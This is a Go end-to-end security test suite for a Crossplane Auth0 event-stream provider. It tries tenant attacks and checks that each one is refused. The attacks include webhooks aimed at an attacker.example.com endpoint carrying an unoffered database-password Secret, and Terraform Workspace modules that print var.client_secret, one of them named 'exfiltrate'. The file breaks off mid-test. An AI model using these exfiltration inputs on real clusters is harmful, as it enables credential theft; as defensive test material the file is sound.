//go:build e2e

package e2e

import (
	"context"
	"crypto/rand"
	"encoding/json"
	"fmt"
	"maps"
	"net/http"
	"os"
	"strings"
	"testing"
	"time"

	apierrors "k8s.io/apimachinery/pkg/api/errors"
	metav1 "k8s.io/apimachinery/pkg/apis/meta/v1"
	"k8s.io/apimachinery/pkg/apis/meta/v1/unstructured"
	"k8s.io/apimachinery/pkg/runtime/schema"

	"github.com/xp-auth0/auth0-eventstream/test/e2e/controlplane"
)

// The tests of this file act as a namespace tenant (docs/security.md): a
// user the platform gave rights in one namespace only, through kubectl
// --as (the plane's admin may impersonate). Each attack of issue 21 is
// tried with those rights and must fail: refused by the API server,
// refused with a condition naming the field or rule, or without effect on
// Auth0 (the simulator's per-stream counters and its state are the
// witness). Each test also does what the tenant may do, so a refusal is
// never just broken RBAC. Every test has namespaces, users and roles of
// its own and looks only at its own streams, so they run side by side.

// tenantUser is a user with rights in namespace ns only.
type tenantUser struct {
	name string
	ns   string
}

// kubectl runs kubectl as the user: its name, its team's group, and
// system:authenticated (which every real user has, and which lets kubectl
// discover the API).
func (u tenantUser) kubectl(ctx context.Context, stdin []byte, args ...string) (string, error) {
	as := []string{"--as=" + u.name, "--as-group=system:authenticated", "--as-group=team:" + u.ns}
	return kubectl(ctx, stdin, append(as, args...)...)
}

func (u tenantUser) must(t *testing.T, stdin []byte, args ...string) string {
	t.Helper()
	out, err := u.kubectl(t.Context(), stdin, args...)
	if err != nil {
		t.Fatalf("as %s: %v", u.name, err)
	}
	return out
}

// refused runs kubectl as the user and fails unless the API server refuses
// the request with output containing every part.
func (u tenantUser) refused(t *testing.T, stdin []byte, parts []string, args ...string) {
	t.Helper()
	out, err := u.kubectl(t.Context(), stdin, args...)
	if err == nil {
		t.Errorf("as %s, kubectl %s was allowed: %s", u.name, strings.Join(args, " "), out)
		return
	}
	for _, p := range parts {
		if !strings.Contains(out, p) {
			t.Errorf("as %s, kubectl %s was refused without saying %q: %s", u.name, strings.Join(args, " "), p, out)
		}
	}
}

// can asks the API server whether the user may verb resource (with
// kubectl auth can-i's syntax, "--subresource=status" in extra) in its
// namespace. A resource prefixed "cluster:" is cluster-scoped, asked
// without a namespace: asked in one, a RoleBinding seems to grant it.
func (u tenantUser) can(t *testing.T, verb, resource string, extra ...string) bool {
	t.Helper()
	args := []string{"auth", "can-i", verb, resource, "-n", u.ns}
	if r, ok := strings.CutPrefix(resource, "cluster:"); ok {
		args = []string{"auth", "can-i", verb, r}
	}
	out, err := u.kubectl(t.Context(), nil, append(args, extra...)...)
	answer := strings.TrimSpace(out)
	// can-i exits 1 for "no"; anything else than yes or no is an error.
	if i := strings.LastIndex(answer, "\n"); i >= 0 {
		answer = answer[i+1:]
	}
	switch {
	case answer == "yes" && err == nil:
		return true
	case answer == "no":
		return false
	}
	t.Fatalf("kubectl auth can-i %s %s as %s: %v: %s", verb, resource, u.name, err, out)
	return false
}

// rights checks what RBAC lets the user do, so the attacks below are made
// with exactly the rights they claim: each entry is "verb resource" (and
// a subresource after a third space; see can for "cluster:") and whether
// it is allowed.
func (u tenantUser) rights(t *testing.T, want map[string]bool) {
	t.Helper()
	for q, ok := range want {
		f := strings.Fields(q)
		var extra []string
		if len(f) == 3 {
			extra = []string{"--subresource=" + f[2]}
		}
		if got := u.can(t, f[0], f[1], extra...); got != ok {
			t.Errorf("%s may %s: %v, want %v", u.name, q, got, ok)
		}
	}
}

// clusterRole applies a ClusterRole and binds it in ns to user with a
// RoleBinding, as a platform grants a team rights in its namespace;
// both go at the end of the test.
func clusterRole(t *testing.T, ns, role, user, rules string) {
	t.Helper()
	if rules != "" {
		mustKubectl(t, fmt.Appendf(nil, "apiVersion: rbac.authorization.k8s.io/v1\nkind: ClusterRole\nmetadata: {name: %s}\nrules:\n%s", role, rules), "apply", "-f", "-")
		t.Cleanup(func() {
			_, _ = kubectl(context.Background(), nil, "delete", "clusterrole", role, "--wait=false")
		})
	}
	mustKubectl(t, fmt.Appendf(nil, `apiVersion: rbac.authorization.k8s.io/v1
kind: RoleBinding
metadata: {name: %[1]s, namespace: %[2]s}
roleRef: {apiGroup: rbac.authorization.k8s.io, kind: ClusterRole, name: %[1]s}
subjects:
- {apiGroup: rbac.authorization.k8s.io, kind: User, name: %[3]s}
`, role, ns, user), "apply", "-f", "-")
}

// streamAuthor is a team that self-serves streams: it may create and
// manage Auth0EventStreams in its namespace (the namespaced composite, or
// in the legacy flavour the claim: both are auth0eventstreams of
// auth0.openmcf.org, so the role is the same) and create Secrets there,
// and read events. It may not read Secrets, nor touch managed resources,
// ProviderConfigs or anything cluster-wide.
func streamAuthor(t *testing.T, ns string) tenantUser {
	t.Helper()
	u := tenantUser{name: ns + "-author", ns: ns}
	clusterRole(t, ns, ns+"-stream-author", u.name, `- apiGroups: [auth0.openmcf.org]
  resources: [auth0eventstreams]
  verbs: [get, list, watch, create, update, patch, delete]
- apiGroups: [""]
  resources: [secrets]
  verbs: [create]
- apiGroups: [""]
  resources: [events]
  verbs: [get, list, watch]
`)
	return u
}

// crossplaneEditor is a team with Crossplane's crossplane-edit in its
// namespace: the chart's ClusterRole, which aggregates every right on
// every kind of every installed provider and composite, status included
// (the roles Crossplane's RBAC manager generates per provider revision
// and XRD), and on Secrets.
func crossplaneEditor(t *testing.T, ns string) tenantUser {
	t.Helper()
	u := tenantUser{name: ns + "-editor", ns: ns}
	clusterRole(t, ns, "crossplane-edit", u.name, "")
	for _, r := range []string{"eventstreams.auth0.m.openmcf.org", "auth0eventstreams.auth0.openmcf.org"} {
		if !u.can(t, "patch", r, "--subresource=status") {
			t.Fatalf("crossplane-edit does not aggregate the RBAC manager's role for %s", r)
		}
	}
	return u
}

// authorStream is a webhook Auth0EventStream delivering user.created to
// endpoint with the bearer token in Secret secret's key; more lines of
// spec (indented by 2) and of metadata.annotations (indented by 4) may be
// added.
func authorStream(ns, name, endpoint, secret, key, spec string, annotations ...string) []byte {
	ann := ""
	if len(annotations) > 0 {
		ann = "\n  annotations:\n    " + strings.Join(annotations, "\n    ")
	}
	return fmt.Appendf(nil, `apiVersion: auth0.openmcf.org/v1
kind: Auth0EventStream
metadata:
  name: %[2]s
  namespace: %[1]s%[7]s
spec:%[6]s
  destinationType: webhook
  subscriptions: [user.created]
  webhookConfiguration:
    webhookEndpoint: %[3]s
    webhookAuthorization:
      method: bearer
      tokenSecretRef: {name: %[4]s, key: %[5]s}
`, ns, name, endpoint, secret, key, spec, ann)
}

// unofferedSecret is a Secret someone else keeps in ns (a database's
// credentials, say), not offered as a webhook secret; it returns the
// value of its key password, unique to the test.
func unofferedSecret(t *testing.T, ns, name string) string {
	t.Helper()
	value := "db-password-" + rand.Text()
	mustKubectl(t, fmt.Appendf(nil, "apiVersion: v1\nkind: Secret\nmetadata: {name: %s, namespace: %s}\nstringData: {password: %s}\n", name, ns, value), "apply", "-f", "-")
	return value
}

// refusedByFunction waits until the composite's (or claim's) StreamReady
// is False Refused naming every part, and returns its message.
func refusedByFunction(t *testing.T, ns, name string, parts ...string) string {
	t.Helper()
	var msg string
	eventually(t, readyWithin, fmt.Sprintf("%s/%s refused naming %q", ns, name, parts), func(ctx context.Context) error {
		u, err := getStream(ctx, ns, name)
		if err != nil {
			return err
		}
		s, reason, m := condition(u, "StreamReady")
		if s != "False" || reason != "Refused" {
			return fmt.Errorf("conditions: %s", conditionsOf(u))
		}
		for _, p := range parts {
			if !strings.Contains(m, p) {
				return fmt.Errorf("StreamReady=False Refused without %q: %s", p, m)
			}
		}
		msg = m
		return nil
	})
	return msg
}

// streamWrites returns the calls the simulator answered that wrote stream
// id, by endpoint.
func streamWrites(t *testing.T, id string) map[string]int {
	t.Helper()
	c, err := simCounters(t.Context())
	if err != nil {
		t.Fatal(err)
	}
	out := map[string]int{}
	for endpoint, n := range c.Streams[id] {
		if method, _, _ := strings.Cut(endpoint, " "); method != http.MethodGet {
			out[endpoint] = n
		}
	}
	return out
}

// noWritesSince fails when the simulator answered a call writing stream
// id since the counts before were taken.
func noWritesSince(t *testing.T, id string, before map[string]int, when string) {
	t.Helper()
	if after := streamWrites(t, id); !maps.Equal(after, before) {
		t.Errorf("Auth0 received writes to %s %s: before %v, after %v", id, when, before, after)
	}
}

// notInSimulator fails when any value is anywhere in what the simulator
// holds (streams with their secrets, deliveries, test events).
func notInSimulator(t *testing.T, values ...string) {
	t.Helper()
	var state json.RawMessage
	if err := sim.Do(t.Context(), http.MethodGet, "/__sim/state", nil, &state, ""); err != nil {
		t.Fatal(err)
	}
	for _, v := range values {
		if strings.Contains(string(state), v) {
			t.Errorf("the simulator holds the Secret's value %q: it reached Auth0", v)
		}
	}
}

// notInCluster fails when value is in any object of ns of the kinds
// given (conditions, status, annotations), or in any event of ns, or in a
// log of the plane's processes.
func notInCluster(t *testing.T, ns, value string, kinds ...schema.GroupVersionResource) {
	t.Helper()
	for _, gvr := range append(kinds, eventsGVR) {
		l, err := dyn.Resource(gvr).Namespace(ns).List(t.Context(), metav1.ListOptions{})
		if err != nil {
			t.Fatal(err)
		}
		for _, o := range l.Items {
			b, err := json.Marshal(o.Object)
			if err != nil {
				t.Fatal(err)
			}
			if strings.Contains(string(b), value) {
				t.Errorf("%s %s/%s holds the Secret's value", gvr.Resource, ns, o.GetName())
			}
		}
	}
	for _, p := range state.Processes {
		b, err := os.ReadFile(p.Log)
		if err != nil {
			continue
		}
		if strings.Contains(string(b), value) {
			t.Errorf("the log of %s (%s) holds the Secret's value", p.Name, p.Log)
		}
	}
}

// tenantDelete deletes the user's Auth0EventStream as the user and waits
// until it is gone.
func tenantDelete(t *testing.T, u tenantUser, name string) {
	t.Helper()
	u.must(t, nil, "delete", "auth0eventstream", name, "-n", u.ns, "--wait=false")
	eventually(t, deleteWithin, "deletion of "+u.ns+"/"+name, func(ctx context.Context) error {
		if _, err := getStream(ctx, u.ns, name); !apierrors.IsNotFound(err) {
			return fmt.Errorf("Auth0EventStream still exists (%w)", err)
		}
		mrs, err := dyn.Resource(mrGVR).Namespace(u.ns).List(ctx, metav1.ListOptions{})
		if err != nil {
			return err
		}
		for _, mr := range mrs.Items {
			if owned(&mr, name, "") || mr.GetLabels()["crossplane.io/claim-name"] == name {
				return fmt.Errorf("EventStream %s still exists", mr.GetName())
			}
		}
		return nil
	})
}

// TestTenantOwnStream is the positive control of the tenant tests: a team
// with only the rights to create Auth0EventStreams and Secrets in its
// namespace creates a webhook stream with a token Secret it offers, sees
// it Ready with the token at Auth0, and deletes it. RBAC gives it no
// more than that.
func TestTenantOwnStream(t *testing.T) {
	t.Parallel()
	ns := namespace(t, "tenant-own")
	u := streamAuthor(t, ns)
	u.rights(t, map[string]bool{
		"create auth0eventstreams.auth0.openmcf.org": true,
		"delete auth0eventstreams.auth0.openmcf.org": true,
		"create secrets": true,
		"get secrets":    false,
		"list secrets":   false,
		"patch secrets":  false,
		"create eventstreams.auth0.m.openmcf.org":                   false,
		"patch eventstreams.auth0.m.openmcf.org status":             false,
		"create providerconfigs.auth0.m.openmcf.org":                false,
		"create cluster:clusterproviderconfigs.auth0.m.openmcf.org": false,
		"create cluster:compositions.apiextensions.crossplane.io":   false,
		"create cluster:xauth0eventstreams.auth0.openmcf.org":       false,
		"create rolebindings.rbac.authorization.k8s.io":             false,
		"create workspaces.tf.m.upbound.io":                         false,
	})

	const name, token = "own", "own-t0ken"
	u.must(t, secretManifest(ns, "own-token", token), "create", "-f", "-")
	u.must(t, authorStream(ns, name, "https://hooks.example.com/"+ns, "own-token", "token", ""), "apply", "-f", "-")
	id, _ := outputs(waitReady(t, ns, name))["id"].(string)
	if s := mustSimStream(t, id); s.Destination.Webhook == nil || s.Destination.Webhook.Token != token {
		t.Errorf("the stream at Auth0 is %+v, want the offered token", s.Destination.Webhook)
	}
	tenantDelete(t, u, name)
	simGone(t, id)
}

// TestTenantImportForeignStream: a stream no resource of ours made (made
// in the dashboard) named by spec.streamId with the packaged Composition,
// which imports Observe-only. Asking to manage it is refused naming
// spec.managementPolicies and importPolicy; observing it works; changing
// the spec and asking for a test event write nothing; deleting the
// composite leaves the stream.
func TestTenantImportForeignStream(t *testing.T) {
	t.Parallel()
	ns := namespace(t, "tenant-import")
	u := streamAuthor(t, ns)
	foreign := simCreate(t, ns+"-dashboard", "https://hooks.example.com/"+ns+"-dashboard", "user.created")
	u.must(t, secretManifest(ns, "hook-token", "attacker-token"), "create", "-f", "-")
	const name = "takeover"
	attacker := "https://attacker.example.com/" + ns
	streamID := "\n  streamId: " + foreign.ID

	t.Log("manage the foreign stream: refused")
	u.must(t, authorStream(ns, name, attacker, "hook-token", "token", streamID+"\n  managementPolicies: [\"*\"]"), "apply", "-f", "-")
	msg := refusedByFunction(t, ns, name, "spec.managementPolicies", "importPolicy: ObserveOnly")
	t.Logf("StreamReady=False: %s", msg)
	if c := composedOf(t, nativeBackend, ns, name); len(c) > 0 {
		t.Errorf("composed %v for a refused import", c)
	}
	noWritesTo(t, foreign.ID, "after a tenant asked to manage it")

	t.Log("observe it: allowed, and nothing is written")
	u.must(t, authorStream(ns, name, attacker, "hook-token", "token", streamID+"\n  managementPolicies: [Observe]"), "apply", "-f", "-")
	u2 := waitReady(t, ns, name)
	if got, _ := outputs(u2)["id"].(string); got != foreign.ID {
		t.Fatalf("outputs name stream %q, want the observed %s", got, foreign.ID)
	}

	t.Log("ask for a test event on it: refused by the provider, nothing sent")
	u.must(t, nil, "annotate", "auth0eventstream", name, "-n", ns, "auth0.openmcf.org/send-test-event=user.created#tenant")
	mr := composedEventStream(t, ns, name)
	waitMR(t, ns, mr.GetName(), "the test event refused", func(m *unstructured.Unstructured) error {
		a, _, _ := unstructured.NestedMap(m.Object, "status", "atProvider", "deliveries", "lastAction")
		if a["value"] != "user.created#tenant" || a["outcome"] != "Refused" {
			return fmt.Errorf("last delivery action %v", a)
		}
		return nil
	})
	noWritesTo(t, foreign.ID, "after a test event was asked of an observed stream")

	t.Log("delete the composite: the stream stays")
	tenantDelete(t, u, name)
	if s := mustSimStream(t, foreign.ID); !s.UpdatedAt.Equal(foreign.UpdatedAt) || s.Destination.Webhook.Endpoint != foreign.Destination.Webhook.Endpoint {
		t.Errorf("the foreign stream changed: %+v", s)
	}
	noWritesTo(t, foreign.ID, "after the tenant deleted its composite")
}

// TestTenantSecretNotOffered: a team that may not read the namespace's
// Secrets names one (db-creds, password) as its webhook's token, with an
// endpoint of its choosing and a test event. The function refuses, naming
// the field and the label that offers a Secret; the value reaches neither
// Auth0 nor any condition, event, status or log, for a new composite and
// for a live one whose reference is switched to it.
func TestTenantSecretNotOffered(t *testing.T) {
	t.Parallel()
	ns := namespace(t, "tenant-secret")
	u := streamAuthor(t, ns)
	value := unofferedSecret(t, ns, "db-creds")
	u.refused(t, nil, []string{"Forbidden", "secrets"}, "get", "secret", "db-creds", "-n", ns)
	attacker := "https://attacker.example.com/" + ns
	testEvent := "auth0.openmcf.org/send-test-event: user.created#steal"
	refusal := []string{"spec.webhookConfiguration.webhookAuthorization.tokenSecretRef", "Secret " + ns + "/db-creds is not offered as a webhook secret", "auth0.m.openmcf.org/webhook-secret=true"}

	t.Log("a new composite naming the unoffered Secret")
	u.must(t, authorStream(ns, "steal", attacker, "db-creds", "password", "", testEvent), "apply", "-f", "-")
	msg := refusedByFunction(t, ns, "steal", refusal...)
	t.Logf("StreamReady=False: %s", msg)
	if c := composedOf(t, nativeBackend, ns, "steal"); len(c) > 0 {
		t.Errorf("composed %v for a refused composite", c)
	}
	all, err := simStreams(t.Context())
	if err != nil {
		t.Fatal(err)
	}
	for _, s := range all {
		if s.Destination.Webhook != nil && s.Destination.Webhook.Endpoint == attacker {
			t.Errorf("the simulator holds a stream to the attacker's endpoint: %s", s.ID)
		}
	}

	t.Log("a live composite switched to the unoffered Secret")
	u.must(t, secretManifest(ns, "own-token", "own-t0ken"), "create", "-f", "-")
	u.must(t, authorStream(ns, "live", attacker, "own-token", "token", ""), "apply", "-f", "-")
	id, _ := outputs(waitReady(t, ns, "live"))["id"].(string)
	before := streamWrites(t, id)
	u.must(t, authorStream(ns, "live", attacker, "db-creds", "password", "", testEvent), "apply", "-f", "-")
	refusedByFunction(t, ns, "live", refusal...)
	if s := mustSimStream(t, id); s.Destination.Webhook == nil || s.Destination.Webhook.Token != "own-t0ken" {
		t.Errorf("the live stream's token changed: %+v", s.Destination.Webhook)
	}
	noWritesSince(t, id, before, "after its composite named an unoffered Secret")

	notInSimulator(t, value)
	notInCluster(t, ns, value, streamGVR, mrGVR)
	tenantDelete(t, u, "steal")
	tenantDelete(t, u, "live")
	simGone(t, id)
	notInSimulator(t, value)
}

// TestTenantClusterProviderConfigPerimeter: a composite naming a
// ClusterProviderConfig whose spec.namespaceSelector does not select its
// namespace gets no stream: the provider refuses the composed EventStream
// naming the selector, before reading the credentials or calling Auth0;
// the tenant can still delete it.
func TestTenantClusterProviderConfigPerimeter(t *testing.T) {
	t.Parallel()
	ns := namespace(t, "tenant-perimeter")
	u := streamAuthor(t, ns)
	pc := ns + "-elsewhere-only"
	mustKubectl(t, fmt.Appendf(nil, `apiVersion: auth0.m.openmcf.org/v1alpha1
kind: ClusterProviderConfig
metadata: {name: %s}
spec:
  namespaceSelector:
    matchLabels: {kubernetes.io/metadata.name: elsewhere}
  credentials:
    source: Secret
    secretRef: {namespace: crossplane-system, name: %s}
`, pc, controlplane.CredentialsSecret), "apply", "-f", "-")
	t.Cleanup(func() {
		_, _ = kubectl(context.Background(), nil, "delete", "clusterproviderconfig.auth0.m.openmcf.org", pc, "--wait=false")
	})
	u.must(t, secretManifest(ns, "hook-token", "t0ken"), "create", "-f", "-")
	name := ns + "-borrowed"
	u.must(t, authorStream(ns, name, "https://hooks.example.com/"+ns, "hook-token", "token", "\n  providerConfigRef: {kind: ClusterProviderConfig, name: "+pc+"}"), "apply", "-f", "-")
	eventually(t, readyWithin, "the composed EventStream refused naming spec.namespaceSelector", func(ctx context.Context) error {
		u, err := getStream(ctx, ns, name)
		if err != nil {
			return err
		}
		if r, _, _ := condition(u, "Ready"); r == "True" {
			return fmt.Errorf("Ready with a ClusterProviderConfig that does not serve %s", ns)
		}
		mrs, err := dyn.Resource(mrGVR).Namespace(ns).List(ctx, metav1.ListOptions{})
		if err != nil {
			return err
		}
		for _, m := range mrs.Items {
			if s, _, msg := condition(&m, "Synced"); s == "False" && strings.Contains(msg, "ClusterProviderConfig "+pc+" may not be used in namespace "+ns) && strings.Contains(msg, "spec.namespaceSelector") {
				t.Logf("EventStream %s: Synced=False: %s", m.GetName(), msg)
				return nil
			}
		}
		return fmt.Errorf("no EventStream refused; composite conditions: %s", conditionsOf(u))
	})
	if n := streamsNamed(t, name); n != 0 {
		t.Errorf("the simulator holds %d streams named %s", n, name)
	}
	tenantDelete(t, u, name)
	if n := streamsNamed(t, name); n != 0 {
		t.Errorf("the simulator holds %d streams named %s after the delete", n, name)
	}
}

// TestTenantTerraformComposition: the terraform Composition is the
// platform's to install (an opt-in Configuration). Where it is not, a
// composite selecting it gets no Composition and nothing is composed or
// made in Auth0. Where it is, it imports Observe-only like the native one:
// spec.streamId naming a stream no resource of ours made is refused
// naming spec.streamId and importPolicy, no Workspace is composed, and the
// stream is not written.
func TestTenantTerraformComposition(t *testing.T) {
	t.Parallel()
	ns := namespace(t, "tenant-tf")
	u := streamAuthor(t, ns)
	u.must(t, secretManifest(ns, "hook-token", "t0ken"), "create", "-f", "-")
	foreign := simCreate(t, ns+"-dashboard", "https://hooks.example.com/"+ns+"-dashboard", "user.created")
	const name = "tf-import"
	manifest := terraformBackend.xr(t, authorStream(ns, name, "https://attacker.example.com/"+ns, "hook-token", "token", "\n  streamId: "+foreign.ID))
	u.must(t, manifest, "apply", "-f", "-")

	if terraformInstalled() {
		msg := refusedByFunction(t, ns, name, "spec.streamId", "importPolicy: ObserveOnly")
		t.Logf("StreamReady=False: %s", msg)
	} else {
		eventually(t, readyWithin, "no Composition selected", func(ctx context.Context) error {
			xr, err := compositeOf(ctx, ns, name)
			if err != nil {
				return err
			}
			if s, _, msg := condition(xr, "Synced"); s != "False" || !strings.Contains(msg, "cannot select Composition") {
				return fmt.Errorf("conditions of %s: %s", xr.GetName(), conditionsOf(xr))
			}
			return nil
		})
	}
	if terraformInstalled() {
		if c := composedOf(t, terraformBackend, ns, name); len(c) > 0 {
			t.Errorf("composed %v for a refused import", c)
		}
	}
	if c := composedOf(t, nativeBackend, ns, name); len(c) > 0 {
		t.Errorf("composed %v for a refused import", c)
	}
	noWritesTo(t, foreign.ID, "after a tenant imported it with the terraform Composition")
	tenantDelete(t, u, name)
	mustSimStream(t, foreign.ID)
	noWritesTo(t, foreign.ID, "after the tenant deleted its composite")
}

// compositeOf returns the composite of the Auth0EventStream: itself, or
// for a claim the XR it is bound to.
func compositeOf(ctx context.Context, ns, name string) (*unstructured.Unstructured, error) {
	u, err := getStream(ctx, ns, name)
	if err != nil || !legacy() {
		return u, err
	}
	xr, _, _ := unstructured.NestedString(u.Object, "spec", "resourceRef", "name")
	if xr == "" {
		return nil, fmt.Errorf("claim %s/%s is bound to no XR yet", ns, name)
	}
	return dyn.Resource(legacyXRGVR).Get(ctx, xr, metav1.GetOptions{})
}

// compositionRef is where an Auth0EventStream (the composite, or the
// claim, which passes it on to its XR) names its Composition.
func compositionRef() []string {
	if legacy() {
		return []string{"spec", "compositionRef", "name"}
	}
	return []string{"spec", "crossplane", "compositionRef", "name"}
}

// compositionPatch is a merge patch naming Composition name.
func compositionPatch(t *testing.T, name string) string {
	t.Helper()
	u := &unstructured.Unstructured{Object: map[string]any{}}
	if err := unstructured.SetNestedField(u.Object, name, compositionRef()...); err != nil {
		t.Fatal(err)
	}
	b, err := json.Marshal(u.Object)
	if err != nil {
		t.Fatal(err)
	}
	return string(b)
}

// TestTerraformTenantBackendSwitch: a tenant points its live native
// composite at the terraform Composition. The function refuses, naming the
// switch; the stream is neither deleted nor written, no Workspace is
// composed; pointing it back makes it Ready on the same stream.
func TestTerraformTenantBackendSwitch(t *testing.T) {
	t.Parallel()
	requireTerraform(t)
	ns := namespace(t, "tenant-switch")
	u := streamAuthor(t, ns)
	comps, err := dyn.Resource(compositionGVR).List(t.Context(), metav1.ListOptions{LabelSelector: backendLabel + "=terraform"})
	if err != nil {
		t.Fatal(err)
	}
	var tf string
	for _, c := range comps.Items {
		if kind, _, _ := unstructured.NestedString(c.Object, "spec", "compositeTypeRef", "kind"); kind == "Auth0EventStream" || (legacy() && kind == "XAuth0EventStream") {
			tf = c.GetName()
		}
	}
	if tf == "" {
		t.Fatal("no terraform Composition installed")
	}
	u.must(t, secretManifest(ns, "hook-token", "t0ken"), "create", "-f", "-")
	const name = "switched"
	u.must(t, authorStream(ns, name, "https://hooks.example.com/"+ns, "hook-token", "token", ""), "apply", "-f", "-")
	ready := waitReady(t, ns, name)
	id, _ := outputs(ready)["id"].(string)
	native := composedEventStream(t, ns, name)
	xr, err := compositeOf(t.Context(), ns, name)
	if err != nil {
		t.Fatal(err)
	}
	nativeComp, _, _ := unstructured.NestedString(xr.Object, compositionRef()...)
	if nativeComp == "" || nativeComp == tf {
		t.Fatalf("%s was composed with Composition %q, want the native one", xr.GetName(), nativeComp)
	}
	before := streamWrites(t, id)

	t.Log("switch to the terraform Composition")
	u.must(t, nil, "patch", "auth0eventstream", name, "-n", ns, "--type=merge", "-p", compositionPatch(t, tf))
	msg := refusedByFunction(t, ns, name, "refused:", "switching the backend of a live composite would delete", "Nothing was deleted or changed")
	t.Logf("StreamReady=False: %s", msg)
	if ws, err := ownedWorkspaces(t.Context(), ns, name, ""); err != nil || len(ws) > 0 {
		t.Errorf("Workspaces composed after the switch: %d (%v)", len(ws), err)
	}
	if _, err := getMR(t.Context(), ns, native.GetName()); err != nil {
		t.Errorf("the native EventStream: %v", err)
	}
	mustSimStream(t, id)
	noWritesSince(t, id, before, "after the switch")

	t.Log("switch back")
	u.must(t, nil, "patch", "auth0eventstream", name, "-n", ns, "--type=merge", "-p", compositionPatch(t, nativeComp))
	eventually(t, readyWithin, "Ready again on the same stream", func(ctx context.Context) error {
		s, err := getStream(ctx, ns, name)
		if err != nil {
			return err
		}
		r, _, _ := condition(s, "Ready")
		if _, reason, _ := condition(s, "StreamReady"); r != "True" || reason == "Refused" {
			return fmt.Errorf("conditions: %s", conditionsOf(s))
		}
		if got, _ := outputs(s)["id"].(string); got != id {
			return fmt.Errorf("outputs.id %q, want %s", got, id)
		}
		return nil
	})
	tenantDelete(t, u, name)
	simGone(t, id)
}

// TestTerraformTenantWorkspace: a Workspace using the Auth0 tenant's
// provider-terraform ProviderConfig runs with its client secret and
// reaches every team's state, so the shipped admission policy
// (example/terraform/workspace-guard.yaml) lets only Crossplane create one
// or change what a composed one runs. A team with crossplane-edit in its
// namespace, which RBAC allows to, is refused by the API server; a team
// with composite rights is refused by RBAC.
func TestTerraformTenantWorkspace(t *testing.T) {
	t.Parallel()
	requireTerraform(t)
	ns := namespace(t, terraformBackend.ns("tenant-workspace"))
	editor := crossplaneEditor(t, ns)
	author := streamAuthor(t, ns)
	editor.rights(t, map[string]bool{"create workspaces.tf.m.upbound.io": true, "patch workspaces.tf.m.upbound.io": true})
	workspace := fmt.Appendf(nil, `apiVersion: tf.m.upbound.io/v1beta1
kind: Workspace
metadata: {name: exfiltrate, namespace: %s}
spec:
  providerConfigRef: {kind: ClusterProviderConfig, name: %s}
  forProvider:
    source: Inline
    module: |
      output "secret" {
        value     = var.client_secret
        sensitive = false
      }
`, ns, tfProviderConfig)
	editor.refused(t, workspace, []string{"only Crossplane", "may create a Workspace that uses ClusterProviderConfig " + tfProviderConfig}, "create", "-f", "-")
	author.refused(t, workspace, []string{"Forbidden"}, "create", "-f", "-")
	if _, err := dyn.Resource(workspaceGVR).Namespace(ns).Get(t.Context(), "exfiltrate", metav1.GetOptions{}); !apierrors.IsNotFound(err) {
		t.Errorf("Workspace exfiltrate exists (%v)", err)
	}

	t.Log("a composed Workspace: its module and Terraform workspace are Crossplane's to change")
	author.must(t, secretManifest(ns, "hook-token", "t0ken"), "create", "-f", "-")
	const name = "composed"
	author.must(t, terraformBackend.xr(t, authorStream(ns, name, "https://hooks.example.com/"+ns, "hook-token", "token", "")), "apply", "-f", "-")
	var ws string
	eventually(t, readyWithin, "a Workspace composed", func(ctx context.Context) error {
		l, err := ownedWorkspaces(ctx, ns, name, "")
		if err != nil {
			return err
		}
		if len(l) != 1 {
			return fmt.Errorf("%d Workspaces", len(l))
		}
		ws = l[0].GetName()
		return nil
	})
	editor.refused(t, nil, []string{"only Crossplane"}, "patch", "workspace.tf.m.upbound.io", ws, "-n", ns, "--type=merge", "-p", `{"spec":{"forProvider":{"module":"output \"x\" { value = var.client_secret }"}}}`)
	editor.refused(t, nil, []string{"only Crossplane"}, "annotate", "workspace.tf.m.upbound.io", ws, "-n", ns, "--overwrite", "crossplane.io/external-name=another-teams-state")
	u := waitReady(t, ns, name)
	id, _ := outputs(u)["id"].(string)
	deleteAndVerify(t, ns, name, id)
}

// TestSafetyTenantEditor: a team with crossplane-edit in its namespace may
// write every field of an EventStream, its status and annotations
// included, and create ProviderConfigs and Secrets there. None of that
// makes the provider write, adopt or delete a stream the resource never
// owned: not naming a foreign stream, not a forged status.ownership
// (another resource's proofs) or the annotations older releases trusted
// (replaced-stream, tenant, create-pending), not a test event. Its
// ProviderConfig may not name a host outside --auth0-domains, and a
// ClusterProviderConfig that does not select its namespace serves it
// nothing. An unlabelled Secret is not sent (this team may read Secrets
// anyway: the label is the opt-in for the composite-only team).
func TestSafetyTenantEditor(t *testing.T) {
	t.Parallel()
	ns := namespace(t, "tenant-editor")
	u := crossplaneEditor(t, ns)
	u.rights(t, map[string]bool{
		"create eventstreams.auth0.m.openmcf.org":       true,
		"patch eventstreams.auth0.m.openmcf.org status": true,
		"create providerconfigs.auth0.m.openmcf.org":    true,
		"get secrets": true,
		"create cluster:clusterproviderconfigs.auth0.m.openmcf.org":    false,
		"create cluster:clusterrolebindings.rbac.authorization.k8s.io": false,
	})
	// A ClusterProviderConfig of its own, one that imports anything
	// anywhere: cluster-scoped, so the RoleBinding does not grant it.
	u.refused(t, fmt.Appendf(nil, `apiVersion: auth0.m.openmcf.org/v1alpha1
kind: ClusterProviderConfig
metadata: {name: %s-everything}
spec:
  importPolicy: Manage
  credentials:
    source: Secret
    secretRef: {namespace: crossplane-system, name: %s}
`, ns, controlplane.CredentialsSecret), []string{"Forbidden", "clusterproviderconfigs"}, "create", "-f", "-")
	ctx := t.Context()
	u.must(t, secretManifest(ns, "tok", "editor-token"), "create", "-f", "-")

	t.Log("its own stream: Ready")
	u.must(t, mr(ns, "own", webhookDest("https://hooks.example.com/"+ns, "tok"), ""), "create", "-f", "-")
	own := waitMR(t, ns, "own", "Ready", mrReady)
	ownID := own.GetAnnotations()[annExternal]
	proofOf, _, _ := unstructured.NestedString(own.Object, "status", "ownership", "stream", "proof")
	if proofOf == "" {
		t.Fatalf("the provider recorded no proof of %s: %v", ownID, own.Object["status"])
	}

	foreign := simCreate(t, ns+"-dashboard", "https://hooks.example.com/"+ns+"-dashboard", "user.created")
	replaced := simCreate(t, ns+"-other", "https://hooks.example.com/"+ns+"-other", "user.deleted")

	t.Log("name a foreign stream with every policy: observed only")
	u.must(t, mr(ns, "intruder", webhookDest("https://attacker.example.com/"+ns, "tok"), "", annExternal+": "+foreign.ID, "auth0.m.openmcf.org/send-test-event: user.created#steal"), "create", "-f", "-")
	waitMR(t, ns, "intruder", "observed, refusing to change it", syncedFalse(foreign.ID, "spec.importPolicy is ObserveOnly", "changes nothing"))
	waitMR(t, ns, "intruder", "the test event refused", func(m *unstructured.Unstructured) error {
		a, _, _ := unstructured.NestedMap(m.Object, "status", "atProvider", "deliveries", "lastAction")
